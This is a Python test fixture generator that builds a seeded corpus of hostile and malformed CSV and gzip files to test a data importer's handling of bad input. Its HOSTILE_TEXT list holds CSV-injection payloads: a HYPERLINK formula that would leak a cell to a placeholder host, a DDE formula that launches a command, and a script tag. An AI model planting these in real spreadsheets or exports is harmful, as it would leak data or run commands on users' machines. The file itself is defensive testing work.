"""Hostile input files: the text, the mutations and the seeded regression corpus.

The corpus in ``tests/fixtures/hostile/`` is made by :func:`make_corpus` from synthetic
rows (``tests._rows``) and the hand-written source fixtures, with a fixed seed, so
``python -m tests._hostile`` rebuilds the same bytes (``tests/test_fuzz.py`` checks
that). A folder and a FIFO cannot be committed; the tests make them on the fly.
"""

from __future__ import annotations

import contextlib
import csv
import gzip
import io
import random
import re
import sys
from pathlib import Path

from tests._rows import good_row

CORPUS = Path(__file__).parent / "fixtures" / "hostile"
SOURCES = Path(__file__).parent / "fixtures" / "sources"
SEED = 19

#: Text a spreadsheet would execute, or that breaks naive CSV or HTML handling.
HOSTILE_TEXT = (
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "=1+1",
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "=cmd|' /C calc'!A0",
    "<script>alert(1)</script>",
    'a "quoted" word, and a comma',
    "two\nlines",
)
#: Canonical text columns that take any text in a valid row.
FREE_TEXT = ("district", "place", "source_event_id", "sources", "evidence", "notes")

#: First characters of a cell that a spreadsheet executes.
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


@contextlib.contextmanager
def big_fields():
    """Let the csv module read fields of any size (the fuzz test writes some over 1 MB)."""
    limit = csv.field_size_limit(sys.maxsize)
    try:
        yield
    finally:
        csv.field_size_limit(limit)


def executable_cells(path: Path) -> list[str]:
    """The cells of a CSV file that a spreadsheet would run as a formula."""
    with big_fields(), open(path, newline="", encoding="utf-8") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    return [c for c in cells if c[:1] in TRIGGERS and not _PLAIN_NUMBER.fullmatch(c)]


def csv_bytes(rows: list[list[str]], **kw) -> bytes:
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n", **kw).writerows(rows)
    return buf.getvalue().encode("utf-8")


def canonical_rows(*rows: dict) -> list[list[str]]:
    header = list(rows[0])
    return [header, *([str(r[c]) for c in header] for r in rows)]


def source_rows(name: str) -> list[list[str]]:
    with open(SOURCES / name, newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def gz(data: bytes) -> bytes:
    return gzip.compress(data, mtime=0)


def _formula_rows() -> list[list[str]]:
    """Valid rows with hostile text in every free-text field, and rows that are
    quarantined for hostile text where a vocabulary or a date is expected."""
    rows = [
        good_row(incident_id=f"H-{i:02d}", **{c: text for c in FREE_TEXT})
        for i, text in enumerate(HOSTILE_TEXT)
    ]
    rows.append(good_row(incident_id="=BAD-1", province="=HYPERLINK(1)", province_code=""))
    rows.append(good_row(incident_id="@BAD-2", perpetrator="+cmd"))
    rows.append(good_row(incident_id="-BAD-3", date="=TODAY()"))
    return canonical_rows(*rows)


def _with_hostile_cells(name: str, columns: tuple[str, ...]) -> bytes:
    rows = source_rows(name)
    header = rows[0]
    for i, row in enumerate(rows[1:]):
        for c in columns:
            row[header.index(c)] = HOSTILE_TEXT[i % len(HOSTILE_TEXT)]
    return csv_bytes(rows)


def _cut_after(data: bytes, marker: bytes) -> bytes:
    """``data`` cut just after the last ``marker`` (which opens a quoted field)."""
    return data[: data.rindex(marker) + len(marker)]


def _corpus_bytes() -> dict[str, bytes]:
    rng = random.Random(SEED)
    good = csv_bytes(canonical_rows(good_row(), good_row(incident_id="T-0002", notes="a note, quoted")))
    last_quoted = canonical_rows(good_row(), good_row(incident_id="T-0002", notes="cut, somewhere in here"))
    typo = canonical_rows(good_row())
    typo[0][typo[0].index("geo_precision")] = "geo_precison"
    tz = canonical_rows(good_row(date="2022-09-30T10:15:00+04:30"), good_row(incident_id="T-0002", date="2022-09-30T06:00:00Z"))
    dup = canonical_rows(good_row())
    dup[0][dup[0].index("district")] = "place"
    gtd = csv_bytes(source_rows("gtd_numeric.csv"), quoting=csv.QUOTE_NONNUMERIC)
    lines = good.decode().splitlines()
    return {
        "formula_every_field.csv": csv_bytes(_formula_rows(), quoting=csv.QUOTE_ALL),
        "formula_gtd.csv": _with_hostile_cells("gtd_numeric.csv", ("provstate", "city", "gname")),
        "formula_acled.csv": _with_hostile_cells("acled.csv", ("location", "notes", "actor1")),
        "unterminated_last_field.csv": _cut_after(csv_bytes(last_quoted), b'"cut, some'),
        "unterminated_gtd.csv": _cut_after(gtd, b'"Jammu and'),
        "stray_opening_quote.csv": good.replace(b"Dasht-e Barchi", b'"Dasht-e Barchi', 1),
        "quote_inside_field.csv": good.replace(b"Dasht-e Barchi", b'Dasht-e 5" Barchi'),
        "fake.csv.gz": b"this is plain text, not gzip data\n",
        "truncated.csv.gz": gz(good * 20)[:300],
        "gzip_named_csv.csv": gz(good),
        "random_bytes.csv": bytes(rng.randrange(256) for _ in range(4096)),
        "xlsx_renamed.csv": b"PK\x03\x04" + bytes(rng.randrange(256) for _ in range(512)),
        "latin1.csv": good.decode().replace("Dasht-e Barchi", "Dasht-e Barchí").encode("latin-1"),
        "utf16.csv": good.decode().encode("utf-16"),
        "bom.csv": b"\xef\xbb\xbf" + good,
        "header_typo.csv": csv_bytes(typo),
        "tz_dates.csv": csv_bytes(tz),
        "duplicate_header.csv": csv_bytes(dup),
        "ragged_and_blank.csv": "\n".join([lines[0], lines[1], "", "X,2022-01-01,too,few", lines[2]]).encode() + b"\n",
        "empty.csv": b"",
        "header_only.csv": good.split(b"\n", 1)[0] + b"\n",
    }


def unusable_files(folder: Path) -> list[tuple[Path, str]]:
    """A folder, a fake and a truncated ``.gz`` and random bytes, made in ``folder``:
    ``(path, a word the error message must hold)``."""
    folder.mkdir(parents=True, exist_ok=True)
    inner = folder / "folder.csv"
    inner.mkdir(exist_ok=True)
    fake = folder / "fake.csv.gz"
    fake.write_text("incident_id,date\nA,2020-01-01\n")
    cut = folder / "cut.csv.gz"
    data = gz(b"incident_id,date\n" + b"A,2020-01-01\n" * 2000)
    cut.write_bytes(data[: len(data) // 2])
    noise = folder / "noise.csv"
    noise.write_bytes(random.Random(SEED).randbytes(2000))
    return [(inner, "folder"), (fake, "not gzip"), (cut, "truncated"), (noise, "binary")]


def make_corpus(folder: Path = CORPUS) -> list[Path]:
    """Write the regression corpus into ``folder``; the paths written."""
    folder.mkdir(parents=True, exist_ok=True)
    paths = []
    for name, data in _corpus_bytes().items():
        (folder / name).write_bytes(data)
        paths.append(folder / name)
    return paths


if __name__ == "__main__":
    for p in make_corpus():
        print(p)
